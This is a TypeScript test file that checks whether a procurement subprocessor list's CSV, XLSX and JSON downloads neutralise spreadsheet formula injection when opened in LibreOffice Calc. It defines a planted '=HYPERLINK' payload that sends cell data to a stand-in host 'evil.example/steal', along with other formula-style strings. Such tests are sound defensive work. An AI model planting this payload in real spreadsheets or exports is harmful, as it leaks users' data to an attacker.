/** The downloads, opened by the programs procurement uses: LibreOffice Calc and a JSON Schema validator. */
import { execFile } from 'node:child_process';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import Ajv2020 from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildFixture, cells, epochOf, libreoffice, prepareFixture } from './helpers';

const run = promisify(execFile);
const PLANTED = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for details")';

// CSV filter: comma, double quote, UTF-8, from line 1, …, and token 13 "evaluate formulas" on,
// so anything that could run as a formula would.
const CSV_EVALUATING = 'CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true';

describe('downloads in LibreOffice Calc', () => {
  let dir: string;
  let dist: string;

  beforeAll(async () => {
    dir = await prepareFixture('downloads', 'formulas');
    const result = await buildFixture(dir, { SOURCE_DATE_EPOCH: epochOf('2026-11-20') });
    expect(result.code, result.output).toBe(0);
    dist = path.join(dir, 'dist');
    await mkdir(path.join(dir, 'lo'), { recursive: true });
  });

  it('opens the CSV with one row per activity and the planted formula as text', async () => {
    const xlsx = await libreoffice(
      path.join(dist, 'subprocessors.csv'),
      'xlsx',
      path.join(dir, 'lo'),
      CSV_EVALUATING,
    );
    const [sheet] = await cells(xlsx);
    expect(sheet!.rows).toHaveLength(1 + 3); // header + eu-host, us-mailer, evil-vendor: one activity each
    expect(sheet!.rows[0]![0]!.value).toBe('Processor');
    expect(sheet!.rows.flat().filter((c) => c.formula)).toEqual([]);
    const names = sheet!.rows.map((r) => r[0]!.value);
    expect(names).toContain(`'${PLANTED}`);
    expect(sheet!.rows.flat().map((c) => c.value)).toEqual(
      expect.arrayContaining(["'+31 Vendor B.V.", "'@SUM(1+1) and -2+3 must stay text too."]),
    );
  });

  it('would have run the formula without the neutralising apostrophe (the check can fail)', async () => {
    const control = path.join(dir, 'lo', 'control.csv');
    await writeFile(control, `Processor\r\n"${PLANTED.replace(/"/g, '""')}"\r\n`);
    const [sheet] = await cells(
      await libreoffice(control, 'xlsx', path.join(dir, 'lo'), CSV_EVALUATING),
    );
    expect(sheet!.rows[1]![0]!.formula).toBe(true);
  });

  it('opens the XLSX with three sheets, a frozen header, sized columns and no formulas', async () => {
    const sheets = await cells(path.join(dist, 'subprocessors.xlsx'));
    expect(sheets.map((s) => s.name)).toEqual(['Processors', 'Transfers', 'Changes']);
    expect(sheets.every((s) => s.frozen)).toBe(true);
    expect(sheets[0]!.widths.every((w) => (w ?? 0) >= 10)).toBe(true);
    expect(sheets[0]!.rows).toHaveLength(4);
    expect(sheets[1]!.rows).toHaveLength(1 + 1); // the US transfer of us-mailer
    expect(sheets[2]!.rows).toHaveLength(1 + 1);

    // Round-trip through LibreOffice, as a reviewer saving a copy would.
    const csv = await libreoffice(
      path.join(dist, 'subprocessors.xlsx'),
      'csv',
      path.join(dir, 'lo'),
    );
    const text = await readFile(csv, 'utf8');
    expect(text.split('\n').filter(Boolean)).toHaveLength(4);
    expect(text).toContain(
      `"'=HYPERLINK(""http://evil.example/steal?""&A1,""Click for details"")"`,
    );
    expect(sheets.flatMap((sh) => sh.rows.flat()).filter((c) => c.formula)).toEqual([]);
    await mkdir(path.join(dir, 'lo', 'resaved'), { recursive: true });
    const resaved = await cells(
      await libreoffice(
        path.join(dist, 'subprocessors.xlsx'),
        'xlsx',
        path.join(dir, 'lo', 'resaved'),
      ),
    );
    expect(resaved.flatMap((sh) => sh.rows.flat()).filter((c) => c.formula)).toEqual([]);
    expect(resaved[0]!.rows.map((r) => r[0]!.value)).toContain(`'${PLANTED}`);
  });

  it('keeps the exact text in the JSON, which validates against the published JSON Schema', async () => {
    const doc = JSON.parse(await readFile(path.join(dist, 'subprocessors.json'), 'utf8'));
    const schema = JSON.parse(
      await readFile(path.join(dist, 'schema/subprocessors.schema.json'), 'utf8'),
    );
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    addFormats.default(ajv);
    const validate = ajv.compile(schema);
    expect(validate(doc), JSON.stringify(validate.errors)).toBe(true);
    expect(doc.processors.map((p: { name: string }) => p.name)).toContain(PLANTED);
    expect(doc.$schema).toBe('https://trust.fixture.example/schema/subprocessors.schema.json');
    // And the validator rejects a broken document, so the check above means something.
    expect(validate({ ...doc, processors: [{ ...doc.processors[0], role: 'vendor' }] })).toBe(
      false,
    );
  });

  it('lists every download in SHA256SUMS with its real hash', async () => {
    const sums = await readFile(path.join(dist, 'SHA256SUMS'), 'utf8');
    const files = sums
      .trim()
      .split('\n')
      .map((line) => line.split('  ')[1]);
    expect(files).toEqual(
      expect.arrayContaining([
        'subprocessors.csv',
        'subprocessors.xlsx',
        'subprocessors.json',
        'subprocessors.jsonld',
        'schema/subprocessors.schema.json',
        'changes.rss',
      ]),
    );
    await run('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: dist });
  });
});
